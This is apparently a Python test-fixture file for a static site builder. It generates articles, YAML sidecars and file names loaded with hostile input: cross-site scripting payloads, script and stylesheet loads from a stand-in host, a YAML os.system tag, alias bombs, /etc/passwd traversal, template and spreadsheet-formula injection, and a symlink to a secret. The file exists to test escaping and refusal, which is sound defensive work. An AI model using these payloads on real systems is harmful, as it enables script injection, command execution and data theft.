"""Input that would do harm if it were taken for anything but words, and a site built from all of it.

`WORDS` go into every field that reaches a page and into the running text: each must be read there as the words it is.
`NAMES` are file names that become addresses. `REFUSED` are files that no page is made from, with what is said.
"""

from __future__ import annotations

import json
from pathlib import Path

import yaml

EVIL = "evil.example"
RUN = "window.ran=1;alert(1)"
WORDS = {
    "script": f"<script>{RUN}</script>",
    "script in capitals with a line end": f"<SCRIPT\n>{RUN}</SCRIPT\n>",
    "script cut in two": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script from another host": f"<script src=//{EVIL}/x.js></script>",
    "end of a script block": f"</script><script>{RUN}</script>",
    "end of a title": f"</title><script>{RUN}</script>",
    "end of a text area": f"</textarea><img src=x onerror={RUN}>",
    "end of the page": f"</article></main></body></html><script>{RUN}</script>",
    "image with a handler": f"<img src=x onerror={RUN}>",
    "drawing with a handler": f"<svg/onload={RUN}>",
    "drawing with a script": f"<svg><script>{RUN}</script></svg>",
    "details with a handler": f"<details open ontoggle={RUN}>",
    "frame": f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "object": f"<object data=data:text/html,<script>{RUN}</script>></object>",
    "base": f"<base href=//{EVIL}/>",
    "refresh": f"<meta http-equiv=refresh content=0;url=//{EVIL}/>",
    "style": f"<style>@import '//{EVIL}/x.css';body{{display:none}}</style>",
    "style sheet": f"<link rel=stylesheet href=//{EVIL}/x.css>",
    "form": f"<form action=//{EVIL}/><button autofocus onfocus={RUN}>",
    "end of an attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
    "end of an attribute, single": f"' onfocus='{RUN}' autofocus='",
    "link to a script": f"[click](javascript:{RUN})",
    "link to a script in capitals": f"[click](JaVaScRiPt:{RUN})",
    "link to data": f"[click](data:text/html,<script>{RUN}</script>)",
    "reference": f"[click][a]\n\n[a]: javascript:{RUN}",
    "image from another host": f"![x](http://{EVIL}/x.png)",
    "image by a link of ours": "!Port Lorn and !Ada Quill!",
    "address in angle brackets": f"<http://{EVIL}/>",
    "attribute list": f"words {{: onclick={RUN} }}",
    "attribute list with an id": "words {#p1 .para}",
    "attribute list of a block": f"\n{{: onclick={RUN} }}\n",
    "comment": "before <!-- hidden --> after",
    "comment without an end": "before <!-- hidden",
    "character data": "<![CDATA[ hidden ]]>",
    "processing instruction": "<?php echo 1 ?>",
    "doctype": "<!DOCTYPE html><!ENTITY a 'b'>",
    "references": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;b&#62; &amp;amp; &#0; &#x110000;",
    "snippet": '--8<-- "/etc/passwd"',
    "snippet block": "--8<--\n/etc/passwd\n--8<--",
    "include": "{% include '/etc/passwd' %}",
    "template": "{{ config.site_name.__class__ }} {{ 7 * 7 }}",
    "template comment": "{# hidden #}",
    "raw block": "{% raw %}",
    "environment": "!ENV [HOME, x] ${HOME}",
    "fence without an end": "```html\n<b>words</b>",
    "tildes without an end": "~~~~\nwords",
    "admonition": '!!! danger "Stop"\n    words',
    "block": "/// html | script\nwords\n///",
    "footnote": "words[^1]\n\n[^1]: note",
    "abbreviation": "*[the]: harm",
    "table": "| a | b |\n|---|---|\n| c | d |",
    "heading with an id": "# words {#p1}",
    "front matter": "---\ntemplate: x.html\n---",
    "placeholder of the renderer": "klzzwxh:0001 \x02wzxhzdk:0\x03 words",
    "control characters": "wo\x07rds \x1b[31mred\x1b[0m \x7f",
    "line and paragraph separators": "one\u2028two\u2029three\x85four\x0cfive",
    "direction overridden": "pay \u202eeroc eht\u202c to \u2067them\u2069 and \u202dthese",
    "zero-width characters": "wo\u200brds pass\u200dword\ufeff \u2060x",
    "right to left": "قالت المفوضة: לא נוותר {{ x }}",
    "combining marks": "Z\u0351\u036b\u0343\u036a\u0302a\u0321\u034el\u0489go",
    "noncharacters": "words \ufffe \uffff \U0001fffe end",
    "emoji short codes": ":smile: 👩\u200d👩\u200d👧 :material-home:",
    "formulas": r"$\href{javascript:alert(1)}{x}$ \(x\) $$y$$",
    "quoted prints": "%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003e",
    "comment and script in a script block": f"<!--<script>{RUN}",
    "table in a drawing": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "attribute in an element without scripts": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "shadow tree": f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
    "plain text to the end": "<plaintext>words",
    "address with a reference in it": f"[click](javascript&colon;{RUN}) <a href='jav&#x09;ascript:{RUN}'>x</a>",
    "address that runs in angle brackets": f"<javascript:{RUN}> <mailto:x@{EVIL}>",
    "bare address": f"http://{EVIL}/ www.{EVIL} //{EVIL}/x.js",
    "attribute list of a link": f"[x](y.md){{ onclick={RUN} target=_blank }}",
    "reference by the name of a link of ours": f"[All briefs]: javascript:{RUN}",
    "reference by the number of a note": f"[1]: javascript:{RUN}",
    "Markdown in an element": f'<div class="note" markdown="1">[x](javascript:{RUN})</div>',
    "underlined heading": "words\n=====\nwords\n-----",
    "backslash at the end": "words \\",
    "other templates": "${{ secrets.TOKEN }} #{7*7} <%= 7*7 %> {%- raw -%}",
    "entry of a calendar": "x\nend:vevent\nbegin:vevent\nattach:file:///etc/passwd",
    "entry of a bibliography": f"x}}, url={{javascript:{RUN}}}, y={{\nER  - \nTY  - JOUR",
    "formula of a table": "=HYPERLINK(A1) @SUM(1) +cmd|' /C calc'!A0 -1",
    "tags and fillers": "wo\u00adrds \U000e0041\U000e0042 \ufff9x\ufffay\ufffb \u115f\u3164 end",
    "ids of ours": "title __palette __md_drawer p1 s-title e-1 y2019",
    "deep quotation": "> " * 300 + "words",
    "deep list": "\n".join("  " * n + "- item" for n in range(60)),
    "deep brackets": "[" * 3000 + "x" + "](y)" * 3000,
    "deep emphasis": "*_" * 2000 + "words",
    "deep elements": "<b>" * 3000 + "words",
    "a long line": "word " * 4000 + "end",
    "a long word": "w" * 20_000,
}
NAMES = {  # file name -> what its address is
    "con.txt": "con-1",
    "NUL.md": "nul-1",
    "com1.txt": "com1-1",
    "%2e%2e%2fetc%2fpasswd.txt": "2e-2e-2fetc-2fpasswd",
    "-rf ~.txt": "rf",
    "<img src=x onerror=alert(1)>.txt": "img-src-x-onerror-alert-1",
    '"; touch owned; ".txt': "touch-owned",
    "{{ 7*7 }}.txt": "7-7",
    "javascript:alert(1).txt": "javascript-alert-1",
    "a\nb.txt": "a-b",
    "\u202etxt.exe.txt": "txt-exe",
    "index.txt": "index-1",
    "n" * 240 + ".txt": "n" * 60,
}
PAIRS = {  # two files that would have one address
    "case": ("Twice.txt", "twice.md"),
    "Unicode form": ("Caf\u00e9.txt", "Cafe\u0301.txt"),
    "suffix": ("both.txt", "both.md"),
    "punctuation": ("a b.txt", "a-b.txt"),
}
LEDGER = {
    "version": 1, "briefs": {"fleet": {}, "lost": {}}, "sections": {}, "renamed": {"old-fleet": "fleet"},
    "entities": {"named-1": "named-1", "gone": None},
}  # fmt: skip
"""What was published before: a brief under another name, one that was withdrawn, an entity that is gone."""

DEEP = "a: " + "{a: " * 200 + "1" + "}" * 200
BOMB = "a: &a [x,x,x]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]\nsummary: *c\n"
SIDECARS = {  # refused, with these words
    "anchors that explode": (BOMB, r"anchors \(&\) and aliases \(\*\) are not allowed"),
    "an anchor on itself": ("summary: &a [*a]", "anchors"),
    "a merge key": ("<<: {title: x}", "unknown key “<<”"),
    "a tag that runs": ("title: !!python/object/apply:os.system [id]", "the tag “.*os.system” is not allowed"),
    "a tag of MkDocs": ("title: !ENV HOME", "the tag “!ENV” is not allowed"),
    "binary": ("title: !!binary aGk=", "the tag .* is not allowed"),
    "deep nesting": (DEEP, "nested deeper than"),
    "a list as a title": ("title: [a, b]", "“title” should be a text"),
    "two documents": ("title: a\n---\ntitle: b", "a second document"),
    "a key twice": ("title: a\ntitle: b", "“title” stands twice"),
    "a key that is none": ("__proto__: a", "unknown key “__proto__”"),
    "a huge count": ("notes: [{at: Port Lorn, nth: " + "9" * 5000 + ", text: x}]", "should be a whole number"),
    "a day that is none": ("published: 2019-02-30", "not a day of the calendar"),
    "a time": ("published: 2019-02-03T25:00:00Z", "not a day of the calendar"),
    "a huge year": ("published: 99999999999-01-01", "not a day of the calendar"),
    "a date that is none": ("events: [{label: x, date: 2019-99}]", "not an EDTF date"),
    "an address that runs": (f"url: javascript:{RUN}", "https?"),
    "an address that runs in a source": (f"sources: [{{title: x, url: 'javascript:{RUN}'}}]", "https?"),
    "an address without a scheme": (f"url: //{EVIL}/x", "https?"),
    "an address that ends its attribute": ("url: 'https://a.example/\" onclick=\"x'", "https?"),
    "an address of two lines": ('url: "https://a.example/\\nx"', "https?"),
    "an address of a file": ("url: file:///etc/passwd", "https?"),
    "rights that are none": ("rights: <script>", "is not known"),
    "an entity that is a path": ("mentions: [{at: Port Lorn, entity: ../../etc}]", "etc"),
    "words that are not there": ("notes: [{at: <script>, text: x}]", "<script>"),
    "a control character": ("title: a\x00b", "invalid YAML|binary"),
    "no YAML": ("title: 'a", "invalid YAML"),
    "a kilometer of brackets": ("title: " + "[" * 5000, "nested deeper|invalid YAML"),
}
AUTHORITIES = {
    "an id that is a path": ("entities: {../../etc/passwd: {name: x}}", "is not an id"),
    "an absolute path": ("entities: {/etc/passwd: {name: x}}", "is not an id"),
    "an id that Windows reserves": ("entities: {aux: {name: x}}", "is not an id; .*“aux-1”"),
    "an id with markup": ("entities: {'\"><script>': {name: x}}", "is not an id"),
    "coordinates that are no numbers": (
        "entities: {x: {name: x, kind: place, coordinates: [.nan, .inf]}}",
        "2 numbers",
    ),
    "coordinates off the earth": ("entities: {x: {name: x, kind: place, coordinates: [91, 0]}}", "latitude"),
    "huge coordinates": ("entities: {x: {name: x, kind: place, coordinates: [1e999, 0]}}", "2 numbers"),
    "a kind that is none": ("entities: {x: {name: x, kind: script}}", "is not known"),
    "anchors that explode": ("entities: {x: &x {name: a}, y: *x}", "anchors"),
    "a merge into itself": ("entities: {x: {name: x, merge: [x]}}", "merged into itself"),
}
FILES = {  # bytes that are no article
    "zero bytes": (b"Words\0words.", "binary file"),
    "an image": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "binary file"),
    "UTF-16 with a zero in it": ("a\0b".encode("utf-16"), "binary file"),
    "UTF-16 without a mark, cut off": ("words of an article".encode("utf-16-le")[:-1], "binary file"),
    "nothing": (b"", "the file is empty"),
    "invisible characters only": ("\u200b\ufeff \u200b\n".encode(), "the file is empty"),
    "half of UTF-16": (b"\xff\xfea\0b", "begins like UTF-16"),
    "a lone surrogate in UTF-16": (b"\xff\xfea\0\0\xd8b\0", "begins like UTF-16"),
}


def seed(number: int, words: str) -> str:
    """An article that says the words."""
    return (
        f"What the board heard in case {number}\n\nBy Ada Quill\nMarch 5, 2019\n\n"
        f"Ada Quill met the Harbor Board in Port Lorn on 27 February 2019.\n\nOne said {words} and sat down.\n\n"
        "“We will wait,” said Tomas Reyes, who left Port Lorn two days later.\n"
    )


def sidecar(words: str) -> str:
    """The words in every field that an editor fills."""
    said = {
        "title": words, "authors": [words], "place": words, "section": words, "publisher": words, "license": words,
        "summary": words, "key_points": [{"text": words, "at": "Ada Quill met"}],
        "sections": [{"title": words, "before": "“We will wait,”"}],
        "notes": [{"at": "Harbor Board", "text": words}],
        "mentions": [{"at": "Tomas Reyes", "entity": "tomas-reyes", "name": words}],
        "events": [{"label": words, "date": "2019-02-27", "at": "27 February 2019"}],
        "sources": [{"title": words, "author": words, "publisher": words, "date": "2019-03-05"}],
    }  # fmt: skip
    return yaml.safe_dump(said)


def write(folder: Path) -> Path:
    """A folder of seeds with all that is shown: each of the words in an article, in a sidecar and in an entity."""
    folder.mkdir(parents=True)
    entities = {}
    for number, words in enumerate(WORDS.values()):
        text = "".join(
            c for c in words if c not in "\x02\x03\x07"
        )  # with these it would count as binary, and be refused
        (folder / f"text-{number}.txt").write_text(seed(number, text), encoding="utf-8", newline="")
        short = " ".join(words[:500].split())
        (folder / f"field-{number}.txt").write_text(seed(number, "nothing"), encoding="utf-8")
        (folder / f"field-{number}.yml").write_text(sidecar(short), encoding="utf-8")
        entities[f"named-{number}"] = {
            "name": f"Ship {number} {short}", "kind": "organization", "description": short, "variants": [f"S{number}"],
            "same_as": {"wikidata": f"Q1{short}", short: short},
        }  # fmt: skip
    entities["tomas-reyes"] = {"name": "Tomas Reyes", "kind": "person"}
    (folder / "authority.yml").write_text(yaml.safe_dump({"entities": entities}), encoding="utf-8")
    fleet = "The fleet\n\n" + "\n\n".join(f"The S{number} sailed in 1912." for number in range(len(WORDS)))
    (folder / "fleet.txt").write_text(fleet, encoding="utf-8")
    held = "Kept back\n\nAda Quill met nobody <b>at all</b> in Port Lorn on 27 February 2019, said the Harbor Board."
    (folder / "held.txt").write_text(f"{held}\n\n“We will wait,” added Tomas Reyes.\n", encoding="utf-8")
    said = sidecar(WORDS["script"]).replace("Ada Quill met", "met nobody")
    (folder / "held.yml").write_text("rights: excerpt\n" + said, encoding="utf-8")
    (folder / "permalinks.json").write_text(json.dumps(LEDGER), encoding="utf-8")
    for name in NAMES:
        (folder / name).write_text("Ada Quill went to Port Lorn in May 2019. It was late.", encoding="utf-8")
    (folder / "front.md").write_text(
        f"---\ntitle: {json.dumps(WORDS['script'])}\n---\n\n# x\n\n{WORDS['script']}\n", encoding="utf-8"
    )
    secret = folder.parent / "secret.txt"
    secret.write_text("Not to be read: hunter2 in Port Lorn.", encoding="utf-8")
    (folder / "leads-out.txt").symlink_to(secret)
    (folder / "folder").symlink_to(folder.parent, target_is_directory=True)
    return folder
